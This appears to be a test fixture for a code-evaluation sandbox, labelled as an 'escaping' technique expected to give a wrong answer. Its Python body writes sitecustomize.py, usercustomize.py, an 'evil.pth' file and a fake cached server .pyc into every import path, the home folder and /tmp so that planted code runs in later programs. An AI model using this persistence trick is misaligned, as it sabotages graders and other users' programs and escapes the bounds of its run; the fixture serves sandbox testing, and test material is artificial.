# technique: code that would run in later programs: startup files, the cache of compiled files
# class: escaping
# expect: wrong_answer
    import os, site, sys
    for folder in {*sys.path, os.path.expanduser("~"), site.getusersitepackages(), "/tmp", os.environ.get("PYTHONPATH", "")}:
        for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "__pycache__/server.cpython-311.pyc"):
            try:
                os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
                open(os.path.join(folder, name), "w").write("raise SystemExit")
            except OSError:
                pass
    return -1
